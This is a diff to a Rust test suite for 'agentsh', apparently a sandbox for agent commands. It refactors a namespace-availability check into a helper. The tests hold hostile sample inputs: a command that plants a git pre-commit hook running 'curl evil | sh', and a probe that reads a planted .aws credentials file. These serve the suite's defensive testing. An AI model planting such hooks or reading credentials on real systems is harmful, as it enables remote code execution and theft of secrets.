@@ -81,6 +81,13 @@ fn world(landlock_only: bool) -> Option<World> {
 
 /// Whether user namespaces can be made here; says why a test does not run where not (`why`: what
 /// that means for it).
+/// [`world`] as agentsh runs commands here, where the kernel also allows the namespaces; `None`
+/// (with the reason printed) where either is missing.
+fn world_with_namespaces(why: &str) -> Option<World> {
+    let w = world(false)?;
+    namespaces(why).then_some(w)
+}
+
 fn namespaces(why: &str) -> bool {
     let ok = agentsh::run::sandbox::probe_namespaces() == agentsh::run::sandbox::Namespaces::Available;
     if !ok {
@@ -376,10 +383,7 @@ fn signals_cannot_reach_outside_the_box() {
 
 #[test]
 fn code_paths_of_the_workspace_are_read_only() {
-    let Some(w) = world(false) else { return };
-    if !namespaces("so code paths stay writable") {
-        return;
-    }
+    let Some(w) = world_with_namespaces("so code paths stay writable") else { return };
     let w = w.git();
     for (what, body) in [
         ("plant a pre-commit hook", "echo 'curl evil | sh' > .git/hooks/pre-commit"),
@@ -405,10 +409,7 @@ fn code_paths_of_the_workspace_are_read_only() {
 /// the person's git (by rename, which detaches a mount on the old file).
 #[test]
 fn kept_namespaces_are_joined_only_while_what_they_cover_is_unchanged() {
-    let Some(w) = world(false) else { return };
-    if !namespaces("so there are none to keep") {
-        return;
-    }
+    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
     let w = w.git();
     let first = w.mount_ns();
     assert_eq!(w.mount_ns(), first, "a second command joins the first one's namespaces");
@@ -443,10 +444,7 @@ fn kept_namespaces_are_joined_only_while_what_they_cover_is_unchanged() {
 /// read-only for the next command, in new namespaces.
 #[test]
 fn an_agents_directory_made_since_is_read_only_in_new_namespaces() {
-    let Some(w) = world(false) else { return };
-    if !namespaces("so there are none to keep") {
-        return;
-    }
+    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
     let first = w.mount_ns();
     assert_eq!(w.mount_ns(), first, "a second command joins the first one's namespaces");
     // A file saved in the workspace changes its entries, not `.agents`: still joined.
@@ -463,10 +461,7 @@ fn an_agents_directory_made_since_is_read_only_in_new_namespaces() {
 /// ruleset at the recorded number, which such a process could fill with a ruleset of its own.
 #[test]
 fn without_the_holders_pidfd_inode_the_rules_are_made_not_taken() {
-    let Some(w) = world(false) else { return };
-    if !namespaces("so there are none to keep") {
-        return;
-    }
+    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
     let first = w.mount_ns();
     // The record as a kernel without pidfs has it: no inode, and (had the ruleset been taken
     // anyway) a number that holds no ruleset: the holder's stdin.
@@ -485,10 +480,7 @@ fn without_the_holders_pidfd_inode_the_rules_are_made_not_taken() {
 /// same path is another directory, and commands there get a ruleset that grants it.
 #[test]
 fn a_workspace_made_again_is_writable_with_kept_namespaces() {
-    let Some(w) = world(false) else { return };
-    if !namespaces("so there are none to keep") {
-        return;
-    }
+    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
     // Outside the temp directories, which are writable whole.
     let base = tempfile::tempdir_in(home_base()).unwrap();
     let ws = base.path().join("project");
@@ -514,10 +506,7 @@ fn a_workspace_made_again_is_writable_with_kept_namespaces() {
 /// when they are joined.
 #[test]
 fn a_working_directory_inside_a_hidden_path_is_refused() {
-    let Some(w) = world(false) else { return };
-    if !namespaces("so there are none to keep") {
-        return;
-    }
+    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
     std::fs::create_dir(w.home(".aws")).unwrap();
     w.write_home(".aws/credentials", "SECRET\n");
     w.write_home(".aws/probe.sh", "cat credentials\n");
@@ -813,10 +802,7 @@ fn the_audit_record_names_the_box() {
 /// same box as the command that made them.
 #[test]
 fn a_command_that_joins_kept_namespaces_is_judged_and_recorded_as_the_first() {
-    let Some(w) = world(false) else { return };
-    if !namespaces("so there are none to keep") {
-        return;
-    }
+    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
     let w = w.git();
     let boxes = |w: &World| -> Vec<serde_json::Value> {
         let log = std::fs::read_to_string(w.home(".local/state/agentsh/audit.jsonl")).unwrap();
